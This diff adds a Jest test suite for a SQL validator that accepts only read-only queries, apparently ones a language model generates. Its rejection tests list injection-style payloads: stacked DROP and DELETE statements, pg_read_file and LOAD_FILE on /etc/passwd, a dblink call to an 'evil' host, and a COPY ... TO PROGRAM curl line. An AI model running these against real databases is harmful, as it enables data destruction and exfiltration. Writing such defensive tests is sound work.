@@ -0,0 +1,123 @@
+import { SQLValidator, UnsafeQueryError } from '../sqlValidator';
+
+const expectRejected = (query: string, dbType = 'postgresql') => {
+  const result = SQLValidator.validate(query, dbType);
+  expect(result.valid).toBe(false);
+  expect(result.errors.length).toBeGreaterThan(0);
+  expect(() => SQLValidator.assertReadOnly(query, dbType)).toThrow(UnsafeQueryError);
+};
+
+describe('SQLValidator', () => {
+  describe('malicious queries', () => {
+    it.each([
+      'SELECT * FROM users; DROP TABLE users',
+      'SELECT 1; DELETE FROM orders',
+      'SELECT id FROM users; UPDATE users SET role = \'admin\' WHERE id = 1;'
+    ])('rejects stacked statements: %s', query => {
+      expectRejected(query);
+    });
+
+    it.each([
+      'SELECT * FROM users /* harmless */; DROP TABLE users',
+      'SELECT * FROM users -- list users\n; DELETE FROM users',
+      'SELECT * FROM users /*; */; TRUNCATE users'
+    ])('rejects writes hidden behind comments: %s', query => {
+      expectRejected(query);
+    });
+
+    it.each([
+      'WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone',
+      'WITH moved AS (UPDATE users SET role = \'admin\' RETURNING id) SELECT id FROM moved',
+      'WITH added AS (INSERT INTO users (email) VALUES (\'x@example.com\') RETURNING id) SELECT id FROM added'
+    ])('rejects DML wrapped in a CTE: %s', query => {
+      expectRejected(query);
+    });
+
+    it('rejects SELECT ... INTO on PostgreSQL', () => {
+      expectRejected('SELECT * INTO stolen_users FROM users');
+    });
+
+    it('rejects SELECT ... INTO OUTFILE on MySQL', () => {
+      expectRejected('SELECT * FROM users INTO OUTFILE \'/tmp/users.csv\'', 'mysql');
+    });
+
+    it.each([
+      'SELECT pg_sleep(10)',
+      'SELECT id FROM users WHERE pg_sleep(5) IS NOT NULL',
+      'SELECT pg_read_file(\'/etc/passwd\')',
+      'SELECT * FROM dblink(\'host=evil dbname=x\', \'SELECT 1\') AS t(x int)',
+      'SELECT id FROM users WHERE id IN (SELECT pg_sleep(1))'
+    ])('rejects denied functions: %s', query => {
+      expectRejected(query);
+    });
+
+    it.each([
+      ['SELECT SLEEP(5)', 'mysql'],
+      ['SELECT LOAD_FILE(\'/etc/passwd\')', 'mysql'],
+      ['SELECT BENCHMARK(1000000, MD5(\'x\'))', 'mysql']
+    ])('rejects denied MySQL functions: %s', (query, dbType) => {
+      expectRejected(query, dbType);
+    });
+
+    it.each([
+      'COPY users TO \'/tmp/users.csv\'',
+      'COPY (SELECT * FROM users) TO PROGRAM \'curl http://evil\''
+    ])('rejects COPY: %s', query => {
+      expectRejected(query);
+    });
+
+    it('rejects locking reads', () => {
+      expectRejected('SELECT * FROM users FOR UPDATE');
+    });
+
+    it.each([
+      'DELETE FROM users',
+      'DROP TABLE users',
+      'INSERT INTO users (email) VALUES (\'x@example.com\')',
+      'GRANT ALL ON users TO public'
+    ])('rejects statements that are not SELECT: %s', query => {
+      expectRejected(query);
+    });
+
+    it('rejects empty queries and unknown dialects', () => {
+      expect(SQLValidator.validate('  ;  ', 'postgresql').valid).toBe(false);
+      expect(SQLValidator.validate('SELECT 1', 'oracle').valid).toBe(false);
+    });
+  });
+
+  describe('valid queries', () => {
+    it.each([
+      'SELECT id, email FROM users WHERE created_at > NOW() - INTERVAL \'7 days\'',
+      'SELECT u.id, COUNT(o.id) AS orders FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.id ORDER BY orders DESC LIMIT 10',
+      'WITH recent AS (SELECT * FROM orders WHERE created_at > \'2024-01-01\') SELECT status, SUM(total) FROM recent GROUP BY status',
+      'SELECT * FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 100);',
+      'SELECT name FROM products UNION SELECT name FROM archived_products'
+    ])('accepts %s', query => {
+      const result = SQLValidator.validate(query, 'postgresql');
+      expect(result.errors).toEqual([]);
+      expect(result.valid).toBe(true);
+    });
+
+    it('accepts a MySQL aggregate', () => {
+      expect(SQLValidator.validate('SELECT DATE(created_at) AS day, COUNT(*) FROM orders GROUP BY day', 'mysql').valid).toBe(true);
+    });
+
+    it('lists the tables read, without CTE names', () => {
+      const result = SQLValidator.validate(
+        'WITH recent AS (SELECT * FROM orders) SELECT r.id FROM recent r JOIN users u ON u.id = r.user_id',
+        'postgresql'
+      );
+      expect(result.tables.sort()).toEqual(['orders', 'users']);
+    });
+  });
+
+  describe('extractQuery', () => {
+    it('pulls the statement out of a fenced answer', () => {
+      expect(SQLValidator.extractQuery('Here you go:\n```sql\nSELECT * FROM users;\n```')).toBe('SELECT * FROM users');
+    });
+
+    it('rejects answers without a SELECT', () => {
+      expect(() => SQLValidator.extractQuery('DROP TABLE users')).toThrow(UnsafeQueryError);
+    });
+  });
+});